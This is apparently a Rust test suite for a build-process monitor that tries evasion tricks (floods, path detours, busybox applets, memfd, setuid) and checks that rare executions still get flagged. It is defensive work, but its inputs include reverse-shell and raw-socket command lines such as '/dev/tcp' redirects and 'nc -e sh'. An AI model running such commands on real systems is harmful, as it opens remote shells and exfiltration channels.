//! What an attacker could try, so that something has no line. Each tries it within a build that is busy.

use exectrace::{Event, Partial, Traits};

use super::build::Build;
use super::made::{ENOENT, World, on};
use super::rules::without_strings;
use super::{folding, rare};
use crate::{Rare, Verdict};

/// Executes it between others that are folded.
fn hidden(build: &mut Build, event: &Event) -> Verdict {
    for _ in 0..200 {
        assert!(build.cc().number().is_some());
    }
    let verdict = build.sift.verdict(event);
    assert!(build.cc().number().is_some(), "the others are folded still");
    verdict
}

/// The same of what `alter` makes of a `cc`, which is folded otherwise.
fn altered(alter: impl Fn(Event) -> Event) -> Verdict {
    let mut build = Build::busy();
    let event = alter(build.exec("/usr/bin/cc", &["cc"]));
    hidden(&mut build, &event);
    // It is no news any more, so that the verdict is for what it is.
    let event = alter(build.exec("/usr/bin/cc", &["cc"]));
    hidden(&mut build, &event)
}

/// The same of a program that was seen before.
fn of(path: &str, argv: &[&str]) -> Verdict {
    let mut build = Build::busy();
    build.seen(path, argv);
    let event = build.exec(path, argv);
    hidden(&mut build, &event)
}

#[test]
fn a_flood_before_it_does_not_hide_it() {
    let mut build = Build::busy();
    for _ in 0..5_000 {
        build.cc();
    }
    let curl = build.exec("/usr/bin/curl", &["curl", "https://x"]);
    assert_eq!(hidden(&mut build, &curl), rare(Rare::Program));
    let evil = build.exec("/home/jessie/evil", &["evil"]);
    assert_eq!(hidden(&mut build, &evil), rare(Rare::Folder));
}

#[test]
fn a_new_program_in_a_usual_folder_is_not_hidden() {
    let mut build = Build::busy();
    let evil = build.exec("/usr/bin/evil", &["evil"]);
    assert_eq!(hidden(&mut build, &evil), rare(Rare::New));
}

#[test]
fn a_program_that_was_replaced_is_not_hidden() {
    let mut build = Build::busy();
    build.world.put("/usr/bin/cc");
    let cc = build.exec("/usr/bin/cc", &["cc"]);
    assert_eq!(build.sift.verdict(&cc), rare(Rare::New));
    let same_number = Event { device: (8, 2), ..build.exec("/usr/bin/cc", &["cc"]) };
    assert_eq!(hidden(&mut build, &same_number), rare(Rare::New));
}

#[test]
fn a_new_script_in_a_usual_folder_is_not_hidden() {
    let mut build = Build::busy();
    let first = build.world.script(&build.make, "/usr/local/bin/tool", "/usr/bin/cc");
    assert_eq!(build.sift.verdict(&first), rare(Rare::New));
    let again = build.world.script(&build.make, "/usr/local/bin/tool", "/usr/bin/cc");
    assert!(hidden(&mut build, &again).number().is_some());
    let other = build.world.script(&build.make, "/usr/local/bin/other", "/usr/bin/cc");
    assert_eq!(hidden(&mut build, &other), rare(Rare::New));
}

#[test]
fn a_file_that_is_in_memory_only_is_not_hidden() {
    assert_eq!(altered(|event| Event { traits: Traits::MEMFD, ..event }), rare(Rare::Memfd));
}

#[test]
fn a_file_that_was_removed_is_not_hidden() {
    assert_eq!(altered(|event| Event { traits: Traits::DELETED, ..event }), rare(Rare::Deleted));
}

#[test]
fn a_program_that_gets_rights_is_not_hidden() {
    assert_eq!(altered(|event| Event { traits: Traits::SETUID, ..event }), rare(Rare::Setuid));
}

#[test]
fn a_process_that_kept_rights_is_not_hidden() {
    assert_eq!(altered(|event| Event { euid: 0, ..event }), rare(Rare::Setuid));
    assert_eq!(altered(|event| Event { egid: 0, ..event }), rare(Rare::Setuid));
}

#[test]
fn the_loader_that_is_given_a_file_is_not_hidden() {
    assert_eq!(altered(|event| Event { traits: Traits::LD_SO, ..event }), rare(Rare::LdSo));
}

#[test]
fn a_terminal_is_not_hidden() {
    assert_eq!(altered(|event| on("pts/9", event)), Verdict::Line(None), "it begins a session");
    let (mut world, mut sift) = (World::new(), folding());
    let shell = on("pts/0", world.begin("/bin/bash", &["bash"]));
    let make = world.exec(&shell, "/usr/bin/make", &["make"]);
    sift.judge(&shell);
    sift.judge(&make);
    for at in 1..100 {
        let cc = world.exec(&make, "/usr/bin/cc", &["cc"]);
        assert_eq!(sift.verdict(&cc), if at <= 10 { Verdict::Line(None) } else { rare(Rare::Tty) });
    }
    let without = Event { tty: None, ..world.exec(&make, "/usr/bin/cc", &["cc"]) };
    assert!(sift.verdict(&without).number().is_some());
}

#[test]
fn another_mount_namespace_is_not_hidden() {
    assert_eq!(altered(|event| Event { mnt_ns: 4_026_539_999, ..event }), rare(Rare::Namespace));
}

#[test]
fn an_exec_whose_strings_were_lost_is_not_hidden() {
    assert_eq!(altered(without_strings), rare(Rare::Partial));
}

#[test]
fn an_exec_of_which_anything_is_missing_is_not_hidden() {
    for partial in (Partial::all() - Partial::ENV_FAULT - Partial::ENV_LIMIT).iter() {
        assert_eq!(altered(|event| Event { partial, ..event }), rare(Rare::Partial), "{partial:?}");
    }
    let cut = |event: Event| Event { argv: exectrace::Args::new(b"cc\0".to_vec(), 2, 9, None), ..event };
    assert_eq!(altered(cut), rare(Rare::Partial));
}

#[test]
fn curl_is_not_hidden_by_any_name_of_it() {
    assert_eq!(of("/usr/bin/curl", &["curl", "x"]), rare(Rare::Program));
    assert_eq!(of("/usr/bin/curl", &["cc", "-c", "x.c"]), rare(Rare::Program));
    assert_eq!(of("/usr/bin/cc", &["/usr/bin/curl", "x"]), rare(Rare::Program));
    let by_link = |event| Event { filename: b"../bin/curl".to_vec(), ..event };
    assert_eq!(altered(by_link), rare(Rare::Program));
}

#[test]
fn an_applet_of_busybox_is_not_hidden() {
    assert_eq!(of("/bin/busybox", &["wget", "http://x"]), rare(Rare::Program));
    assert_eq!(of("/bin/busybox", &["busybox", "wget", "http://x"]), rare(Rare::Program));
    assert_eq!(of("/bin/busybox", &["/bin/busybox", "nc", "-e", "sh"]), rare(Rare::Program));
    assert_eq!(of("/usr/bin/toybox", &["toybox", "wget"]), rare(Rare::Program));
    assert!(of("/bin/busybox", &["busybox", "ls", "wget"]).number().is_some(), "an argument is no program");
}

#[test]
fn an_applet_of_busybox_in_busybox_is_not_hidden() {
    assert_eq!(of("/bin/busybox", &["busybox", "busybox", "wget", "http://x"]), rare(Rare::Program));
}

#[test]
fn an_applet_of_a_busybox_with_another_name_is_not_hidden() {
    assert_eq!(of("/usr/local/bin/x", &["busybox", "wget", "http://x"]), rare(Rare::Program));
    assert_eq!(of("/bin/busybox-extras", &["busybox-extras", "telnet", "x"]), rare(Rare::Program));
}

#[test]
fn a_program_in_a_home_folder_is_not_hidden() {
    assert_eq!(of("/home/jessie/bin/cc", &["cc"]), rare(Rare::Folder));
    assert_eq!(of("/usr/binx/cc", &["cc"]), rare(Rare::Folder));
    assert_eq!(of("/tmp/usr/bin/cc", &["cc"]), rare(Rare::Folder));
}

/// A script by this path, from this folder.
fn script(path: &str, cwd: &str) -> Verdict {
    let mut build = Build::busy();
    let mut make = || Event { cwd: cwd.into(), ..build.world.script(&build.make, path, "/bin/sh") };
    let (first, second) = (make(), make());
    build.sift.judge(&first);
    hidden(&mut build, &second)
}

#[test]
fn a_script_in_a_home_folder_is_not_hidden() {
    assert_eq!(script("/home/jessie/evil", "/"), rare(Rare::Folder));
    assert_eq!(script("./evil", "/home/jessie"), rare(Rare::Folder));
    assert_eq!(script("evil", "/home/jessie"), rare(Rare::Folder));
    assert_eq!(script("/dev/fd/3", "/usr/bin"), rare(Rare::Folder));
    assert!(script("./tool", "/usr/local/bin").number().is_some(), "one in a usual folder is folded");
}

#[test]
fn a_script_by_a_path_with_detours_is_not_hidden() {
    for (path, cwd) in [
        ("../../usr/bin/../../home/x/evil", "/a/b"),
        ("/usr/bin/../../home/x/evil", "/"),
        ("/usr/bin/./.././../home//x/evil", "/"),
        ("/../../../home/x/evil", "/usr/bin"),
        ("../../../../../../home/x/evil", "/usr/bin"),
        ("/usr/bin/..", "/"),
    ] {
        assert_eq!(script(path, cwd), rare(Rare::Folder), "{path}");
    }
}

#[test]
fn a_script_behind_a_link_and_back_is_not_hidden() {
    // /usr/local/bin/link leads to /home/x/a, and so the path to /home/x/evil.
    assert_eq!(script("/usr/local/bin/link/../evil", "/"), rare(Rare::Folder));
}

#[test]
fn a_shell_that_talks_to_the_network_itself_is_not_hidden() {
    for words in ["exec 3<>/dev/tcp/10.0.0.1/443", "cat x >/dev/udp/10.0.0.1/53", "a\nb\ncat </dev/tcp/x/1"] {
        assert_eq!(of("/bin/sh", &["sh", "-c", words]), rare(Rare::Rule), "{words}");
    }
}

#[test]
fn what_a_rule_gives_a_line_is_not_hidden() {
    let mut build = Build::busy_by("[[rollup.line]]\nancestor = 'perl'\nargv = '* secret*'");
    let perl = build.exec("/usr/bin/perl", &["perl"]);
    build.sift.judge(&perl);
    let sh = build.world.exec(&perl, "/bin/sh", &["sh"]);
    build.sift.judge(&sh);
    let found = build.world.exec(&sh, "/usr/bin/cc", &["cc", "secret.c"]);
    assert_eq!(hidden(&mut build, &found), rare(Rare::Rule));
    let other = build.exec("/usr/bin/cc", &["cc", "secret.c"]);
    assert!(hidden(&mut build, &other).number().is_some(), "it has no such ancestor");
}

#[test]
fn a_script_that_an_interpreter_is_given_as_an_argument_is_not_hidden() {
    for argv in [&["sh", "/home/jessie/evil"][..], &["python3", "/tmp/evil.py"], &["python3", "-c", "import socket"]] {
        let path = format!("/usr/bin/{}", argv[0]);
        assert!(of(&path, argv).number().is_none(), "{argv:?}");
    }
}

#[test]
fn other_ways_into_the_network_or_to_rights_are_not_hidden() {
    for argv in [
        &["/usr/lib/git-core/git-remote-https", "origin", "https://x"][..],
        &["/usr/bin/ssh-keyscan", "x"],
        &["/usr/bin/smbclient", "x"],
        &["/bin/busybox", "ftpput", "x"],
        &["/bin/busybox", "ssl_client", "x"],
        &["/usr/bin/bwrap", "x"],
        &["/usr/sbin/setcap", "x"],
        &["/usr/bin/kmod", "insmod"],
        &["/usr/bin/gawk", "BEGIN { s = \"/inet/tcp/0/x/1\" }"],
    ] {
        assert!(of(argv[0], argv).number().is_none(), "{argv:?}");
    }
}

#[test]
fn who_became_another_user_within_a_build_is_not_hidden() {
    assert!(altered(|event| Event { uid: 0, euid: 0, gid: 0, egid: 0, ..event }).number().is_none());
}

#[test]
fn a_search_for_programs_that_talk_to_networks_is_not_hidden() {
    let mut build = Build::busy();
    let failed = build.world.attempt(&build.make, &["/usr/bin/socat", "x"], ENOENT);
    assert!(build.sift.verdict_of_attempt(&failed).number().is_none());
}

#[test]
fn a_flood_of_files_makes_all_others_new() {
    let mut build = Build::busy();
    build.seen("/usr/bin/as", &["as"]);
    let flood = build.exec("/usr/bin/cc", &["cc"]);
    for at in 0..65_600 {
        let id = exectrace::ExecId { exec: 100 + at, ..flood.id };
        build.sift.judge(&Event { id, inode: 1_000_000 + u64::from(at), ..flood.clone() });
    }
    for _ in 0..3 {
        let evil = build.exec("/usr/bin/evil", &["evil"]);
        assert_eq!(hidden(&mut build, &evil), rare(Rare::New), "each time");
    }
    let known = build.exec("/usr/bin/as", &["as"]);
    assert!(hidden(&mut build, &known).number().is_some());
}

#[test]
fn a_flood_of_processes_makes_what_is_forgotten_have_lines() {
    let mut build = Build::busy();
    let other = build.world.exec(&build.shell, "/usr/bin/make", &["make"]);
    let sh = build.exec("/usr/bin/cc", &["cc"]);
    build.sift.judge(&other);
    assert!(build.sift.verdict(&sh).number().is_some());
    for _ in 0..16_400 {
        let flood = build.world.exec(&other, "/usr/bin/cc", &["cc"]);
        build.sift.judge(&flood);
    }
    let (sh, make) = (build.world.exec(&sh, "/usr/bin/cc", &["cc"]), build.make.clone());
    assert_eq!(build.sift.verdict(&sh), Verdict::Line(None), "its parent is forgotten");
    assert_eq!(build.cc(), Verdict::Line(None), "so is {make:?}");
    for path in ["/usr/bin/curl", "/home/jessie/evil", "/usr/bin/new"] {
        let event = build.world.exec(&other, path, &["cc"]);
        assert!(build.sift.verdict(&event).number().is_none(), "{path}");
    }
    let end = build.world.end(&build.make, 0);
    assert_eq!(build.sift.verdict_of_end(&end), Verdict::Line(None));
}

#[test]
fn what_is_known_through_a_flood_is_what_others_descend_from() {
    let mut build = Build::busy();
    for at in 0..17_000 {
        assert!(build.cc().number().is_some(), "{at}");
    }
}

#[test]
fn a_flood_of_busy_jobs_makes_what_is_forgotten_have_lines() {
    let mut build = Build::busy();
    for _ in 0..4_200 {
        let job = build.world.exec(&build.shell, "/usr/bin/make", &["make"]);
        build.sift.judge(&job);
        let cc = build.world.exec(&job, "/usr/bin/cc", &["cc"]);
        build.sift.judge(&cc);
    }
    // The job is not busy any more, but its root is.
    let cc = build.exec("/usr/bin/cc", &["cc"]);
    let number = build.sift.verdict(&cc).number().expect("below the root");
    let rollups = build.sift.finish();
    let rollup = rollups.iter().find(|rollup| rollup.number == number).expect("a roll-up");
    assert_eq!(rollup.root, build.shell.id);
}

#[test]
fn a_flood_does_not_make_another_mount_namespace_usual() {
    let (mut world, mut sift) = (World::new(), folding());
    let shell = world.begin("/bin/bash", &["bash"]);
    let make = world.exec(&shell, "/usr/bin/make", &["make"]);
    let inside = Event { mnt_ns: 4_026_539_999, ..world.exec(&make, "/usr/bin/python3", &["python3"]) };
    let other = world.exec(&shell, "/usr/bin/make", &["make"]);
    for event in [&shell, &make, &inside, &other] {
        sift.judge(event);
    }
    for _ in 0..30 {
        assert!(sift.verdict(&world.exec(&inside, "/bin/sh", &["sh"])).number().is_none());
    }
    for _ in 0..16_400 {
        sift.judge(&world.exec(&other, "/usr/bin/cc", &["cc"]));
    }
    let sh = world.exec(&inside, "/bin/sh", &["sh"]);
    sift.judge(&sh);
    for at in 0..30 {
        assert!(sift.verdict(&world.exec(&sh, "/bin/sh", &["sh"])).number().is_none(), "{at}");
    }
}

#[test]
fn a_flood_of_different_arguments_does_not_leave_other_roll_ups_without_samples() {
    let mut build = Build::busy();
    build.seen("/usr/bin/as", &["as"]);
    for at in 0..262_200 {
        let flood = build.exec("/usr/bin/cc", &["cc", &at.to_string()]);
        build.world.now = build.make.time;
        build.sift.judge(&flood);
    }
    let event = build.exec("/usr/bin/as", &["as", "x"]);
    let number = build.sift.verdict(&event).number().expect("busy");
    let rollups = build.sift.finish();
    let rollup = rollups.iter().find(|rollup| rollup.number == number).expect("a roll-up");
    assert_eq!(rollup.samples, [(b"as x".to_vec(), Vec::new())]);
}
